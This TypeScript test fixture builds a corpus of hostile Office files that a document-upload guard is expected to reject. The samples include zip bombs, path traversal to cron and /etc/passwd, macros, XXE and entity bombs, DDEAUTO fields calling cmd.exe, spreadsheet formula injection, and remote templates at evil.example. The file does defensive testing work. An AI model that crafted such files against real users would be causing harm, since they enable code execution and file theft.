import { randomBytes } from 'node:crypto'
import { unzipSync, zipSync } from 'fflate'
import type { UnsafeFileCode } from '../../../../plugins/documents/guard/unsafeFile.ts'
import {
  contentTypes,
  createDocx,
  createPptx,
  createXlsx,
  paragraph,
  relationships,
  type Parts,
} from './createOffice.ts'
import { rawZip, type RawEntry } from './rawZip.ts'

/** A file that must be refused, and how. */
export interface HostileFile {
  name: string
  code: UnsafeFileCode
  /** Part of the message. */
  says: string | RegExp
  bytes: () => Uint8Array
}

const LETTER = paragraph('Dear {{name}},')
const WORD_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const letter = (parts: Parts = {}): Uint8Array => createDocx(LETTER, parts)

/** The entries of a valid file, to write them anew otherwise. */
const entriesOf = (bytes: Uint8Array): RawEntry[] =>
  Object.entries(unzipSync(bytes)).map(([name, data]) => ({ name, data }))

const withEntries = (...added: RawEntry[]): Uint8Array => rawZip([...entriesOf(letter()), ...added])

const withRelationship = (kind: string, target: string, mode?: 'External'): Uint8Array =>
  letter({ 'word/_rels/document.xml.rels': relationships([[kind, target, mode]]) })

const run = (content: string): string => `<w:r>${content}</w:r>`
const mark = (type: string): string => run(`<w:fldChar w:fldCharType="${type}"/>`)
const instruction = (...texts: string[]): string =>
  texts.map((text) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`)).join('')

/** A field whose instruction is split over as many runs as there are texts. */
const field = (...texts: string[]): Uint8Array =>
  createDocx(
    `<w:p>${mark('begin')}${instruction(...texts)}${mark('separate')}${run('<w:t>shown</w:t>')}${mark('end')}</w:p>`,
  )

const sheetWith = (content: string): Uint8Array =>
  createXlsx([], {
    'xl/worksheets/sheet1.xml':
      '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
      `<sheetData><row r="1"><c r="A1">${content}</c></row></sheetData></worksheet>`,
  })
const formula = (text: string): Uint8Array => sheetWith(`<f>${text}</f>`)

const zeros = (megabytes: number): Uint8Array => new Uint8Array(megabytes * 1_000_000)

/** What does not become smaller by packing. */
const noise = (length: number): Uint8Array => new Uint8Array(randomBytes(length))

/** The header of a PNG of 20,000 × 20,000 pixels; what follows does not matter. */
export function hugePng(): Uint8Array {
  const png = Buffer.alloc(64)
  Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex').copy(png)
  png.writeUInt32BE(20_000, 16)
  png.writeUInt32BE(20_000, 20)
  return new Uint8Array(png)
}

const utf16 = (text: string): Uint8Array =>
  new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]))

const hostile = (
  name: string,
  code: UnsafeFileCode,
  says: string | RegExp,
  bytes: () => Uint8Array,
): HostileFile => ({ name, code, says, bytes })

export const corpus: HostileFile[] = [
  // Archives
  hostile('zip bomb', 'zip-bomb', /times its size/, () =>
    withEntries({ name: 'word/media/image1.bmp', data: zeros(50) }),
  ),
  hostile('zip bomb of many parts', 'zip-bomb', 'more than 64 MB', () =>
    withEntries(
      ...Array.from({ length: 90 }, (_, at) => ({
        name: `word/media/image${at}.bmp`,
        data: zeros(0.9),
      })),
    ),
  ),
  hostile('zip bomb that declares a small size', 'zip-bomb', 'longer than it declares', () =>
    withEntries({ name: 'word/media/image1.bmp', data: zeros(50), size: 1000 }),
  ),
  hostile('zip bomb of overlapping parts', 'zip-bomb', 'share the same bytes', () => {
    const data = noise(900_000)
    const first: RawEntry = { name: 'word/media/image0.bmp', data }
    const copies = Array.from({ length: 60 }, (_, at) => ({
      ...{ name: `word/media/image${at + 1}.bmp`, data, sharesWith: 0 },
    }))
    return rawZip([first, ...copies, ...entriesOf(letter())])
  }),
  hostile('zip bomb within a zip', 'embedded-object', 'a zip archive', () => {
    let inner = zipSync({ 'zeros.bin': zeros(10) })
    for (let depth = 0; depth < 5; depth++) inner = zipSync({ a: inner, b: inner, c: inner })
    return letter({ 'word/media/image1.png': inner })
  }),
  hostile('20,000 parts', 'too-many-parts', '20003 parts', () =>
    withEntries(
      ...Array.from({ length: 20_000 }, (_, at): RawEntry => {
        return { name: `customXml/item${at}.xml`, data: '', method: 0 }
      }),
    ),
  ),
  hostile('file of 25 MB', 'too-large', '20 MB are allowed', () =>
    withEntries({ name: 'word/media/image1.png', data: noise(25_000_000), method: 0 }),
  ),
  hostile('traversal', 'unsafe-name', 'points out of the package', () =>
    withEntries({ name: '../../etc/cron.d/evil', data: '* * * * * root id' }),
  ),
  hostile('traversal with backslashes', 'unsafe-name', 'unusual name', () =>
    withEntries({ name: '..\\..\\evil.xml', data: '<a/>' }),
  ),
  hostile('absolute name', 'unsafe-name', 'points out of the package', () =>
    withEntries({ name: '/etc/passwd', data: 'root' }),
  ),
  hostile('name with a drive', 'unsafe-name', 'unusual name', () =>
    withEntries({ name: 'C:/windows/evil.xml', data: '<a/>' }),
  ),
  hostile('name with NUL', 'unsafe-name', 'unusual name', () =>
    withEntries({ name: 'word/media/a.png\0.exe', data: 'x' }),
  ),
  hostile('the same part twice', 'duplicate-part', 'word/document.xml', () =>
    withEntries({ name: 'word/document.xml', data: '<evil/>' }),
  ),
  hostile('the same part in capitals', 'duplicate-part', 'Word/Document.XML', () =>
    withEntries({ name: 'Word/Document.XML', data: '<evil/>' }),
  ),
  hostile('two names for one part', 'ambiguous-archive', 'two names', () =>
    withEntries({ name: 'word/a.xml', localName: 'word/b.xml', data: '<a/>' }),
  ),
  hostile('second name in an extra field', 'ambiguous-archive', 'two names', () => {
    const extra = new Uint8Array([0x75, 0x70, 9, 0, 1, 0, 0, 0, 0, 0x61, 0x2e, 0x78, 0x6d])
    return withEntries({ name: 'word/a.xml', data: '<a/>', extra })
  }),
  hostile('bytes behind the end', 'ambiguous-archive', 'behind its end', () =>
    rawZip(entriesOf(letter()), 'PK\x05\x06 and more'),
  ),
  hostile('encrypted part', 'encrypted', 'password', () =>
    withEntries({ name: 'word/a.xml', data: '<a/>', flags: 1 }),
  ),
  hostile('file with a password', 'encrypted', 'password', () => {
    const old = Buffer.alloc(4096)
    Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(old)
    Buffer.from('EncryptedPackage', 'utf16le').copy(old, 1024)
    return new Uint8Array(old)
  }),
  hostile('truncated file', 'damaged', 'cannot be unpacked', () => letter().subarray(0, 700)),
  hostile('file cut off by a few bytes', 'damaged', 'cannot be unpacked', () =>
    letter().subarray(0, -10),
  ),
  hostile('damaged part', 'damaged', /cannot be unpacked/, () => {
    const bytes = createDocx(Array.from({ length: 500 }, (_, at) => paragraph(`${at}`)).join(''))
    const name = Buffer.from(bytes).indexOf('word/document.xml') + 'word/document.xml'.length
    return bytes.map((byte, at) => (at > name + 20 && at < name + 200 ? 255 - byte : byte))
  }),
  // Other files under the name of an office file
  hostile('PDF as .docx', 'not-office', 'It is a PDF', () => Buffer.from('%PDF-1.7\n%âãÏÓ\n')),
  hostile('program as .docx', 'not-office', 'a program for Windows', () => Buffer.from('MZ\x90\0')),
  hostile('web page as .docx', 'not-office', 'a web page', () =>
    Buffer.from('<html><img src="file:///etc/passwd">'),
  ),
  hostile('old .doc as .docx', 'not-office', 'older or encrypted', () =>
    Buffer.from('d0cf11e0a1b11ae10000', 'hex'),
  ),
  hostile('empty file', 'not-office', 'It is empty', () => new Uint8Array()),
  hostile('zip of something else', 'not-office', 'no office file', () =>
    zipSync({ 'a.xml': new Uint8Array([1]) }),
  ),
  // Macros and what starts by itself
  hostile('macros', 'macros', 'word/vbaProject.bin', () => letter({ 'word/vbaProject.bin': 'x' })),
  hostile('.docm as .docx', 'macros', 'holds macros', () =>
    letter({
      '[Content_Types].xml': contentTypes({
        '/word/document.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml',
      }),
    }),
  ),
  hostile('macros under another name', 'macros', 'word/media/image1.png', () =>
    letter({
      '[Content_Types].xml': contentTypes({
        '/word/document.xml': WORD_TYPE,
        '/word/media/image1.png': 'application/vnd.ms-office.vbaProject',
      }),
      'word/media/image1.png': 'x',
    }),
  ),
  hostile('Excel 4 macros', 'macros', 'Excel 4', () =>
    createXlsx([[1]], { 'xl/macrosheets/sheet1.xml': '<a/>' }),
  ),
  hostile('name that runs when opened', 'macros', 'when the file is opened', () =>
    createXlsx([[1]], {
      'xl/workbook.xml':
        '<workbook><definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames></workbook>',
    }),
  ),
  hostile('changed menus', 'macros', 'menus', () =>
    letter({ 'customUI/customUI14.xml': '<customUI onLoad="evil"/>' }),
  ),
  hostile('ActiveX control', 'active-content', 'ActiveX', () =>
    letter({ 'word/activeX/activeX1.xml': '<a/>' }),
  ),
  hostile('ActiveX element', 'active-content', 'ActiveX', () =>
    createDocx('<w:p><w:r><w:object><w:control w:name="x"/></w:object></w:r></w:p>'),
  ),
  hostile('embedded package', 'embedded-object', 'embedded file', () =>
    letter({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': createXlsx([[1]]) }),
  ),
  hostile('OLE object', 'embedded-object', 'embedded object', () =>
    createDocx('<w:p><w:r><w:object><o:OLEObject Type="Link"/></w:object></w:r></w:p>'),
  ),
  hostile('program as a picture', 'embedded-object', 'a program for Windows', () =>
    letter({ 'word/media/image1.png': 'MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0\xb8\0\0\0\0' }),
  ),
  hostile('whole other document', 'embedded-object', 'another document', () =>
    createDocx('<w:altChunk r:id="rId1"/>'),
  ),
  hostile('script in a drawing', 'active-content', 'script', () =>
    letter({
      'word/media/a.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
    }),
  ),
  hostile('drawing that shows a file', 'linked-picture', 'not in the file', () =>
    letter({ 'word/media/a.svg': '<svg><image href="file:///etc/passwd"/></svg>' }),
  ),
  hostile('click that starts a program', 'action', 'starts a program', () =>
    createPptx(['Hi'], {
      'ppt/slides/slide1.xml': '<p:sld><a:hlinkClick action="ppaction://program"/></p:sld>',
    }),
  ),
  // What reaches out
  ...['http://127.0.0.1:8080/a.png', 'file:///etc/passwd', '\\\\server\\share\\a.png'].map(
    (target) =>
      hostile(`linked picture ${target}`, 'linked-picture', 'not in the file', () =>
        withRelationship('image', target, 'External'),
      ),
  ),
  hostile('picture of VML at an address', 'linked-picture', 'not in the file', () =>
    createDocx('<w:p><w:r><w:pict><v:imagedata src="http://127.0.0.1/"/></w:pict></w:r></w:p>'),
  ),
  hostile('attached template', 'attached-template', 'Word template', () =>
    letter({
      'word/_rels/settings.xml.rels': relationships([
        ['attachedTemplate', 'http://evil.example/a.dotm', 'External'],
      ]),
    }),
  ),
  hostile('link to a file', 'external-link', 'file:///etc/passwd', () =>
    withRelationship('hyperlink', 'file:///etc/passwd', 'External'),
  ),
  hostile('link with a script', 'external-link', 'javascript', () =>
    withRelationship('hyperlink', 'java\tscript:alert(1)', 'External'),
  ),
  hostile('link to a share', 'external-link', 'server', () =>
    withRelationship('hyperlink', '\\\\server\\share', 'External'),
  ),
  hostile('style sheet elsewhere', 'external-link', 'http://evil.example', () =>
    withRelationship('styles', 'http://evil.example/styles.xml', 'External'),
  ),
  hostile('part elsewhere without saying so', 'external-link', 'http://evil.example', () =>
    withRelationship('styles', 'http://evil.example/styles.xml'),
  ),
  hostile('relationship that climbs out', 'external-link', 'etc/passwd', () =>
    withRelationship('image', '../../../etc/passwd'),
  ),
  hostile('recording elsewhere', 'external-media', 'recording', () =>
    createPptx(['Hi'], {
      'ppt/slides/_rels/slide1.xml.rels': relationships([
        ['video', 'http://evil.example/a.mp4', 'External'],
      ]),
    }),
  ),
  // XML
  hostile('entity bomb', 'dtd', 'entities', () => {
    const entities = Array.from(
      { length: 9 },
      (_, at) => `<!ENTITY e${at + 1} "${`&e${at};`.repeat(10)}">`,
    ).join('')
    return letter({
      'word/document.xml': `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e0 "ha">${entities}]><a>&e9;</a>`,
    })
  }),
  hostile('external entity', 'dtd', 'docProps/core.xml', () =>
    letter({
      'docProps/core.xml': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    }),
  ),
  hostile('DTD in UTF-16', 'dtd', 'entities', () =>
    letter({ 'word/styles.xml': utf16('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>') }),
  ),
  hostile('XML in UTF-7', 'bad-xml', 'utf-7', () =>
    letter({ 'word/styles.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
  ),
  hostile('XML that is cut off', 'bad-xml', 'ends too early', () =>
    letter({ 'word/styles.xml': '<w:styles><w:style>' }),
  ),
  hostile('10,000 elements within each other', 'bad-xml', 'nests deeper', () =>
    createDocx('<w:a>'.repeat(10_000) + '</w:a>'.repeat(10_000)),
  ),
  // Field codes
  ...['DDEAUTO c:\\\\windows\\\\cmd.exe', 'DDE Excel a', 'INCLUDETEXT file:///etc/passwd'].map(
    (code) =>
      hostile(code.split(' ')[0] ?? '', 'field-code', code.split(' ')[0] ?? '', () =>
        field(` ${code} `),
      ),
  ),
  ...['INCLUDEPICTURE "http://127.0.0.1/"', 'IMPORT a.png', 'LINK Excel.Sheet a', 'RD a.docx'].map(
    (code) =>
      hostile(code.split(' ')[0] ?? '', 'field-code', code.split(' ')[0] ?? '', () => field(code)),
  ),
  hostile('DDEAUTO over several runs', 'field-code', 'DDEAUTO', () =>
    field(' D', 'D', 'EAU', 'TO c:\\\\cmd.exe'),
  ),
  hostile('DDEAUTO in small letters with entities', 'field-code', 'DDEAUTO', () =>
    field(' &#100;de&#x61;uto c:'),
  ),
  hostile('DDE that an undone change brings back', 'field-code', 'DDE', () =>
    createDocx(
      `<w:p>${mark('begin')}${instruction('DATE')}${mark('end')}${mark('begin')}${run('<w:delInstrText>DDE a</w:delInstrText>')}${mark('end')}</w:p>`,
    ),
  ),
  hostile('DDE put together by QUOTE', 'field-code', 'put together', () =>
    createDocx(
      `<w:p>${mark('begin')}${mark('begin')}${instruction('QUOTE 68 68 69')}${mark('separate')}${run('<w:t>DDE</w:t>')}${mark('end')}${instruction(' c:')}${mark('end')}</w:p>`,
    ),
  ),
  hostile('simple field', 'field-code', 'INCLUDETEXT', () =>
    createDocx('<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;\\\\server\\a&quot;"/></w:p>'),
  ),
  hostile('field in a header', 'field-code', 'word/header1.xml', () =>
    letter({ 'word/header1.xml': `<w:hdr>${instruction('DDE a b')}</w:hdr>` }),
  ),
  hostile('HYPERLINK field to a file', 'external-link', 'file:', () =>
    field('HYPERLINK "file:///c:/windows/system32/cmd.exe"'),
  ),
  hostile('mail merge', 'data-connection', 'mail merge', () =>
    letter({ 'word/settings.xml': '<w:settings><w:mailMerge/></w:settings>' }),
  ),
  // Workbooks
  hostile('WEBSERVICE', 'formula', 'WEBSERVICE', () =>
    formula('_xlfn.WEBSERVICE("http://127.0.0.1/")'),
  ),
  hostile('INDIRECT', 'formula', 'INDIRECT', () =>
    formula('INDIRECT(&quot;&apos;file:///etc/passwd&apos;#$x.A1&quot;)'),
  ),
  hostile('CELL', 'formula', 'CELL', () => formula('CELL(&quot;filename&quot;)')),
  hostile('DDE in a formula', 'formula', 'DDE', () => formula("cmd|'/c calc'!A1")),
  hostile('HYPERLINK to a file', 'formula', 'HYPERLINK', () =>
    formula('HYPERLINK("file:///c:/a.exe","open")'),
  ),
  hostile('HYPERLINK put together', 'formula', 'HYPERLINK', () =>
    formula('HYPERLINK("fi"&amp;"le:///c:/a.exe")'),
  ),
  hostile('another workbook', 'data-connection', 'another workbook', () =>
    formula("'\\\\server\\[a.xlsx]Sheet1'!A1"),
  ),
  hostile('external links', 'data-connection', 'another workbook', () =>
    createXlsx([[1]], { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }),
  ),
  hostile('connections', 'data-connection', 'source of data', () =>
    createXlsx([[1]], { 'xl/connections.xml': '<connections/>' }),
  ),
  hostile('query table', 'data-connection', 'query', () =>
    createXlsx([[1]], { 'xl/queryTables/queryTable1.xml': '<queryTable/>' }),
  ),
  // Pictures
  hostile('picture of 20,000 × 20,000 pixels', 'picture-too-large', '20000 × 20000', () =>
    letter({ 'word/media/image1.png': hugePng() }),
  ),
]
